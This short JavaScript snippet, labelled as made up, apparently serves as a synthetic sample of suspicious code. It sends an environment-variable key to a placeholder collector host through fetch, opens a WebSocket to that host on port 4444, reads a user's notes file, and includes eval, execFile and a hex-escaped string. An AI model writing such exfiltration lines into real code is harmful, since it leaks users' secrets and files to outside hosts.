// made up for this corpus
import { execFile } from "node:child_process";
const key = process.env.MADE_UP_KEY;
fetch("https://collector.example.org/" + key);
new WebSocket("wss://collector.example.org:4444/x");
const text = readFileSync("/home/ada/notes.txt");
execFile("true", []);
eval("1 + 1");
const hidden = "\x41\x42\x43\x44\x45\x46\x47";
